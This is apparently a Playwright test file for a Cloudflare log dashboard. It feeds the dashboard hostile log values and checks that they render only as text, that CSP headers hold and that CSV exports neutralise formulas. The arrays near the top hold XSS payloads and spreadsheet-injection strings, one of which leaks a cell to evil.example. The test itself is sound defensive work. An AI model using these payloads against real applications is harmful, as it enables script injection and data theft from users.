import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { dirname } from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { parseCsv } from '../testing/csv.js';
import {
  cannotRun,
  launchBrowser,
  type ServeProcess,
  screenshot,
  seedStore,
  startServe,
  tempStorePath,
  waitForView,
} from './harness.js';

/**
 * Script payloads pushed as data center codes. The Cloudflare parser upper-cases colos, so the
 * handlers call alert through character references (`&#97;` is `a`), which HTML decodes in
 * attributes whatever the case: rendered as markup, any of these would run. Each starts with a
 * different, distant airport so that every one is a marker of its own on the map.
 */
const COLOS = [
  'FRA<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;(1)>',
  'SJC"><SVG ONLOAD=&#97;&#108;&#101;&#114;&#116;(2)>',
  'SYD</SCRIPT><SCRIPT>ALERT(3)</SCRIPT>',
  "GRU{{CONSTRUCTOR.CONSTRUCTOR('ALERT(4)')()}}",
  'NRT<A HREF=JAVASCRIPT:&#97;&#108;&#101;&#114;&#116;(5)>LINK</A>',
  // Shown literally only when nothing decodes it: escaping twice or not at all both change it.
  'JNB&LT;B&GT;&AMP;',
];

/** Payloads pushed as hosts (which the parser lower-cases); the API and its CSV carry them. */
const HOSTS = [
  '<img src=x onerror=alert(11)>',
  '"><svg onload=alert(12)>',
  '</script><script>alert(13)</script>',
  "{{constructor.constructor('alert(14)')()}}",
  '=hyperlink("http://evil.example/?leak="&a1,"click me")',
  "+cmd|' /c calc'!a0",
  '-2+3+cmd|calc',
  '@sum(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

const ZONE = 'hostile.test';
/**
 * A zone name the API would refuse, written straight into the store (as any writer of the file
 * could): the zone picker lists it.
 */
const STORED_ZONE = 'evil<img src=x onerror=alert(21)>.test';
/** A zone name that only a link carries, in `?zone=`: the page reflects it. */
const LINKED_ZONE = '"><svg onload=alert(22)>';

const now = Date.now();
const minuteAgo = (minutes: number) => now - (now % 60_000) - minutes * 60_000;

/** Every group has a code at every data center, so every tab has a chart and a table. */
const STATUSES: { edge: number; origin?: number; n: number }[] = [
  { edge: 200, origin: 200, n: 20 },
  { edge: 404, origin: 404, n: 3 },
  { edge: 403, n: 2 },
  { edge: 502, origin: 502, n: 2 },
  { edge: 503, origin: 503, n: 1 },
  { edge: 522, n: 1 },
];

/** Cloudflare Logpush lines: every colo has the same traffic (so the same marker size), every host some of it. */
function logLines(): string {
  const lines: string[] = [];
  let i = 0;
  for (const colo of COLOS) {
    for (const { edge, origin, n } of STATUSES) {
      for (let k = 0; k < n; k++) {
        lines.push(
          JSON.stringify({
            EdgeStartTimestamp: new Date(minuteAgo(30 + (i % 3) * 30)).toISOString(),
            ClientRequestHost: HOSTS[i % HOSTS.length],
            EdgeColoCode: colo,
            EdgeResponseStatus: edge,
            OriginResponseStatus: origin ?? null,
            EdgeResponseBytes: 100,
          }),
        );
        i++;
      }
    }
  }
  return lines.join('\n');
}

/** Where the dashboard may load from: itself, its assets and its API. Anything else was injected (`<img src=x>`). */
const EXPECTED_PATH = /^\/(?:$|\?|assets\/|api\/v1\/)/;

/** Headers every answer of the server carries, page, asset, API and error alike. */
const SECURITY_HEADERS: Record<string, RegExp> = {
  'content-security-policy':
    /^(?=.*default-src 'self')(?=.*script-src 'self'(;|$))(?=.*style-src 'self'(;|$))(?=.*object-src 'none')(?=.*base-uri 'none')(?=.*frame-ancestors 'none')(?=.*form-action 'self')/,
  'x-content-type-options': /^nosniff$/,
  'referrer-policy': /^no-referrer$/,
};

const skip = cannotRun();

describe('dashboard fed hostile log values, in headless Chromium', { skip, timeout: 180_000 }, () => {
  let server: ServeProcess;
  let browser: Browser;
  let page: Page;
  /** What went wrong in the page since the last test: dialogs, errors, CSP violations, injected loads. */
  let problems: string[] = [];
  /** A view that shows an API refusal may log its 4xx answers; nothing else may log an error. */
  let allowApiRefusals = false;
  /** Fails at once on what went wrong so far (the hook after each test checks again). */
  const clean = () => assert.deepEqual(problems.splice(0), []);

  before(async () => {
    const dbPath = tempStorePath();
    await seedStore(dbPath, [{ zone: STORED_ZONE, host: 'a.test', colo: 'AMS', ts: minuteAgo(10), edgeStatus: 200 }], {
      [ZONE]: 'enterprise',
    });
    server = await startServe(dbPath);
    const pushed = await fetch(`${server.url}/api/v1/zones/${ZONE}/logs?format=cloudflare`, {
      method: 'POST',
      body: logLines(),
    });
    const body = await pushed.text();
    assert.equal(pushed.status, 200, body);
    const summary = JSON.parse(body) as { accepted: number };
    assert.equal(summary.accepted, COLOS.length * STATUSES.reduce((sum, s) => sum + s.n, 0));

    browser = await launchBrowser();
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    // Report CSP violations as console errors too (Chromium logs most, the event says which directive).
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) =>
        console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI} (${e.sample})`),
      );
    });
    page.on('dialog', (dialog) => {
      problems.push(`dialog ${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (err) => problems.push(`page error: ${err.stack ?? err.message}`));
    page.on('console', (message) => {
      if (message.type() !== 'error') return;
      const text = message.text();
      const refusal = /^Failed to load resource: the server responded with a status of 4\d\d/.test(text);
      if (allowApiRefusals && refusal && new URL(message.location().url).pathname.startsWith('/api/v1/')) return;
      problems.push(`console error: ${text} (${message.location().url})`);
    });
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.origin !== server.url || !EXPECTED_PATH.test(url.pathname + url.search))
        problems.push(`unexpected request: ${request.url()}`);
    });
  });

  afterEach(async () => {
    allowApiRefusals = false;
    if (page && !page.isClosed()) {
      // Nothing the data holds became markup: no element, handler or script came from it.
      const injected = await page.evaluate(() =>
        [...document.querySelectorAll('*')]
          .filter(
            (el) =>
              ['IMG', 'SVG', 'IFRAME', 'OBJECT', 'EMBED', 'A'].includes(el.tagName.toUpperCase()) &&
              !el.classList.contains('brand'),
          )
          .concat([...document.querySelectorAll('script:not([src])')])
          .concat(
            [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))),
          )
          .map((el) => el.outerHTML.slice(0, 120)),
      );
      problems.push(...injected.map((html) => `injected element: ${html}`));
    }
    const found = problems;
    problems = [];
    assert.deepEqual(found, []);
  });

  after(async () => {
    await browser?.close();
    await server?.stop();
    if (server) rmSync(dirname(server.dbPath), { recursive: true, force: true });
  });

  it('sends the security headers on the page, its scripts, the API and error answers', async () => {
    const html = await fetch(`${server.url}/`);
    const markup = await html.text();
    const script = /src="\.\/(assets\/[^"]+\.js)"/.exec(markup)?.[1];
    assert.ok(script, 'index.html names its script');
    // The build leaves nothing inline that the policy would refuse.
    assert.doesNotMatch(markup, /<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=|data:/i);
    const stopLive = new AbortController();
    const answers = {
      page: html,
      script: await fetch(`${server.url}/${script}`),
      compressedScript: await fetch(`${server.url}/${script}`, { headers: { 'accept-encoding': 'br' } }),
      api: await fetch(`${server.url}/api/v1/zones`),
      csv: await fetch(`${server.url}/api/v1/zones/${ZONE}/status-codes?from=-1d&to=now&format=csv`),
      notFound: await fetch(`${server.url}/nothing-here`),
      badRequest: await fetch(`${server.url}/api/v1/zones/${ZONE}/status-codes?from=yesterday`),
      health: await fetch(`${server.url}/healthz`),
      live: await fetch(`${server.url}/api/v1/zones/${ZONE}/live`, { signal: stopLive.signal }),
    };
    stopLive.abort();
    assert.equal(answers.page.status, 200);
    assert.equal(answers.script.status, 200);
    assert.equal(answers.compressedScript.headers.get('content-encoding'), 'br');
    assert.equal(answers.api.status, 200);
    assert.equal(answers.notFound.status, 404);
    assert.equal(answers.badRequest.status, 400);
    for (const [name, response] of Object.entries(answers)) {
      for (const [header, want] of Object.entries(SECURITY_HEADERS))
        assert.match(response.headers.get(header) ?? '', want, `${header} on ${name} (${response.url})`);
    }
  });

  it('shows every hostile data center code as text: table, map tooltips, filter chips', async () => {
    // A range that ends after the data but not `now`: no live refresh redraws the map under the mouse.
    const range = `range=custom&from=${new Date(minuteAgo(24 * 60)).toISOString()}&to=${new Date(now + 3_600_000).toISOString()}`;
    await page.goto(`${server.url}/?zone=${ZONE}&${range}`);
    await waitForView(page, 'ready');
    await page.waitForFunction(() => document.querySelector<HTMLElement>('#colo-map')?.dataset.points);
    const rows = await page.$$eval('#colos tbody tr', (trs) =>
      trs.map((tr) => ({
        colo: tr.getAttribute('data-colo'),
        label: (tr.querySelector('label') as HTMLElement).textContent,
      })),
    );
    assert.deepEqual(rows.map((r) => r.colo).sort(), [...COLOS].sort());
    assert.deepEqual(rows.map((r) => r.label.trim()).sort(), [...COLOS].sort());

    // Hover each marker: its tooltip names the data center, as text.
    const map = page.locator('#colo-map');
    const points = JSON.parse((await map.getAttribute('data-points')) ?? '{}') as Record<string, [number, number]>;
    assert.deepEqual(Object.keys(points).sort(), [...COLOS].sort());
    await map.scrollIntoViewIfNeeded();
    const box = (await map.boundingBox())!;
    for (const colo of COLOS) {
      await page.mouse.move(box.x + points[colo][0], box.y + points[colo][1]);
      await page.waitForTimeout(100);
      clean();
      await page.waitForFunction(
        (want) => document.querySelector<HTMLElement>('#colo-map .tip')?.textContent.includes(want),
        colo,
        { timeout: 5000 },
      );
      assert.equal(await page.locator('#colo-map .tip strong').textContent(), colo);
      await page.locator('#colo-map .tip').waitFor({ state: 'visible', timeout: 5000 });
    }

    // Filter to two of them through the table: the chips name them, as text.
    for (const colo of COLOS.slice(0, 2)) {
      await page
        .locator('#colos tbody tr')
        .filter({ has: page.locator('label', { hasText: colo }) })
        .locator('input')
        .click();
      await waitForView(page, 'ready');
    }
    await page.waitForFunction(() => document.querySelectorAll('#filters .chip').length === 2);
    const chips = await page.$$eval('#filters .chip', (els) =>
      els.map((e) => (e.firstChild as Text).textContent ?? ''),
    );
    assert.deepEqual(chips, COLOS.slice(0, 2));
    const url = new URL(page.url());
    assert.equal(url.searchParams.get('colo'), COLOS.slice(0, 2).join(','));
    await screenshot(page, 'hostile-colos');
  });

  it('visits every tab, hovers legend and chart, and sorts both tables', async () => {
    await page.goto(`${server.url}/?zone=${ZONE}&colo=${encodeURIComponent(COLOS[2])}`);
    await waitForView(page, 'ready');
    assert.equal(await page.$eval('#filters .chip', (e) => (e.firstChild as Text).textContent), COLOS[2]);
    for (const tab of ['all', 'edge', 'origin', '503', '52x']) {
      await page.locator(`#tabs [data-tab="${tab}"]`).click();
      await page.waitForURL((u) => (u.searchParams.get('tab') ?? 'all') === tab);
      await waitForView(page, 'ready');
      for (const entry of await page.locator('#legend .legend-entry').all()) await entry.hover();
      // Sweep the chart: the axis tooltip shows for the buckets with requests.
      const chart = (await page.locator('#chart').boundingBox())!;
      let tips = 0;
      for (let x = 0.05; x < 1; x += 0.05) {
        await page.mouse.move(chart.x + chart.width * x, chart.y + chart.height * 0.6);
        tips += await page.locator('#chart .tip').count();
      }
      assert.ok(tips > 0, `no chart tooltip showed on tab ${tab}`);
      clean();
      for (const key of ['status', 't', 'requests', 'percent'])
        await page.locator(`#status-table th[data-key="${key}"] button`).click();
      for (const key of ['colo', 'requests', 'edge']) await page.locator(`#colos th[data-key="${key}"] button`).click();
    }
    const sorted = await page.$$eval('#colos tbody tr', (trs) => trs.map((tr) => tr.getAttribute('data-colo')));
    assert.equal(sorted.length, COLOS.length);
  });

  it('lists a hostile zone name from the store, and takes one from a link, as text only', async () => {
    allowApiRefusals = true;
    await page.goto(`${server.url}/?zone=${ZONE}`);
    await waitForView(page, 'ready');
    await page.waitForFunction(
      (want) => [...document.querySelectorAll('#zone option')].some((o) => o.textContent === `${want} (enterprise)`),
      STORED_ZONE,
    );
    // The API refuses the name: the page says so, and the picker still shows it, as text.
    await page.locator('#zone').selectOption(STORED_ZONE);
    await waitForView(page, 'error');
    assert.match((await page.locator('#notice [data-state="error"]').textContent()) ?? '', /answered 400/);
    assert.equal(await page.locator('#zone option:checked').textContent(), `${STORED_ZONE} (enterprise)`);
    await screenshot(page, 'hostile-zone-stored');

    // A link naming an impossible zone and a hostile data center: the page names the zone, as
    // text, and offers the zones it has; the one chosen keeps the data center filter, shown as text.
    await page.goto(`${server.url}/?zone=${encodeURIComponent(LINKED_ZONE)}&colo=${encodeURIComponent(COLOS[0])}`);
    await waitForView(page, 'unknown-zone');
    assert.equal(await page.locator('#notice [data-state="unknown-zone"] h2').textContent(), `No zone ${LINKED_ZONE}`);
    await page.locator(`#notice [data-zone="${ZONE}"]`).click();
    await page.waitForURL((u) => u.searchParams.get('zone') === ZONE);
    await waitForView(page, 'ready');
    await page.waitForFunction(() => document.querySelector('#filters .chip'));
    assert.equal(await page.$eval('#filters .chip', (e) => (e.firstChild as Text).textContent), COLOS[0]);
    assert.equal(await page.locator('#colos tr.selected label').textContent(), COLOS[0]);
    assert.equal(await page.title(), `${ZONE} · status codes · edgestat`);
  });

  it('has the page refuse inline handlers and style attributes, should markup ever slip through', async () => {
    await page.goto(`${server.url}/?zone=${ZONE}`);
    await waitForView(page, 'ready');
    // Inline style set by the dashboard itself goes through the CSSOM, which the policy allows.
    const swatch = page.locator('#legend .legend-entry[data-status="200"] .swatch');
    assert.equal(await swatch.evaluate((e) => getComputedStyle(e).backgroundColor), 'rgb(0, 114, 178)');
    clean();
    const outcome = await page.evaluate(async () => {
      const probe = document.createElement('div');
      probe.innerHTML = '<button id="probe" onclick="window.probeRan = true" style="color: rgb(255, 0, 0)">x</button>';
      document.body.append(probe);
      (document.getElementById('probe') as HTMLButtonElement).click();
      const color = getComputedStyle(document.getElementById('probe')!).color;
      probe.remove();
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { ran: (window as unknown as { probeRan?: boolean }).probeRan === true, color };
    });
    assert.equal(outcome.ran, false, 'an inline handler ran');
    assert.notEqual(outcome.color, 'rgb(255, 0, 0)', 'an inline style applied');
    const violations = problems.splice(0).filter((p) => p.includes('CSP violation'));
    assert.ok(
      violations.some((v) => /script-src/.test(v)),
      `the inline handler is reported: ${violations}`,
    );
    assert.ok(
      violations.some((v) => /style-src/.test(v)),
      `the inline style is reported: ${violations}`,
    );
  });

  it('exports hostile hosts and data centers as CSV that spreadsheets read as text', async () => {
    const response = await fetch(
      `${server.url}/api/v1/zones/${ZONE}/status-codes?from=-1d&to=now&bucket=1d&by=host,colo&format=csv`,
    );
    assert.equal(response.status, 200);
    const cells = parseCsv(await response.text());
    const [header, ...rows] = cells;
    assert.deepEqual(header, ['t', 'host', 'colo', 'requests', 'bytes', 'percent']);
    const hosts = new Set(rows.map((r) => r[1]));
    const colos = new Set(rows.map((r) => r[2]));
    const neutral = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    assert.deepEqual([...hosts].sort(), HOSTS.map(neutral).sort());
    assert.deepEqual([...colos].sort(), COLOS.map(neutral).sort());
    for (const row of rows) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no cell starts a formula');
      assert.ok(Number(row[3]) > 0, `requests is a number: ${row[3]}`);
    }
  });
});
